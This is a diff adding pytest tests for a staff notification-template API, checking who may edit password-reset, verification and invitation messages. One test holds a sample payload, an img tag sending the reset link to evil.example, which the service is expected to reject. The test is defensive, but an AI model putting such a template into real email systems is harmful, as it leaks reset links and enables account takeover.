@@ -98,3 +98,19 @@ async def test_only_who_manages_the_catalogue_words_messages(
 ) -> None:
     body = {"subject": "x"} if method == "PUT" else None
     assert (await ask(service, method, body, caller))[0] == expected
+
+
+@pytest.mark.parametrize("kind", ["password_reset", "verify_email", "staff_invitation"])
+async def test_messages_that_open_accounts_are_worded_by_who_manages_staff(service: RunningService, kind: str) -> None:
+    path, admin = f"/api/staff/notifications/templates/{kind}/", a_staff_member("manage_catalog", "manage_staff")
+    body = {"subject": "Your link"}
+    for method, sent in (("PUT", body), ("DELETE", None)):
+        assert (await ask(service, method, sent, path=path))[0] == 403
+        assert (await ask(service, method, sent, admin, path))[0] == 200
+
+
+async def test_not_even_they_put_a_link_where_it_is_kept_or_told_to_others(service: RunningService) -> None:
+    path, admin = "/api/staff/notifications/templates/password_reset/", a_staff_member("manage_catalog", "manage_staff")
+    body = {"subject": "Reset {{ link }}", "html": '<img src="https://evil.example/?{{ link }}">'}
+    status, answer = await ask(service, "PUT", body, admin, path)
+    assert (status, set(answer["field_errors"])) == (400, {"subject", "html"})
